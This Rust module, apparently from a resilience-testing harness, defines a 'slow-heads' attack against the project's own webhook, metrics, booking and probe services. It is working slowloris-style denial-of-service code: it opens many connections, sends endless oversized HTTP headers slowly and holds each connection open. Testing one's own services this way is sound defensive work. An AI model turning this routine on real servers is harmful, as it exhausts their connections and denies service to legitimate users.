//! Holds connections whose heads never end.

use super::{Attack, MANY};
use crate::{aim::Aim, target::Target};
use anyhow::Result;
use futures::FutureExt as _;
use std::time::Duration;
use tokio::io::AsyncWriteExt;

pub(super) const ATTACK: Attack = Attack {
    name: "slow-heads",
    about: "Holds connections whose heads never end",
    targets: &[
        Target::Webhooks,
        Target::MetricsProxy,
        Target::BookingServer,
        Target::BuiltinMetrics,
        Target::ManagerProbes,
        Target::ProxyProbes,
        Target::BookingProbes,
    ],
    attackers: MANY,
    leaves_answers: false,
    other_honest: None,
    once: |aim| once(aim).boxed(),
};

async fn once(aim: Aim) -> Result<()> {
    let mut stream = aim.connect().await?;
    let field = format!("x: {}\r\n", "y".repeat(1000));
    stream.write_all(b"GET / HTTP/1.1\r\n").await?;
    for _ in 0..14 {
        stream.write_all(field.as_bytes()).await?;
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    aim.hold(stream).await;
    Ok(())
}
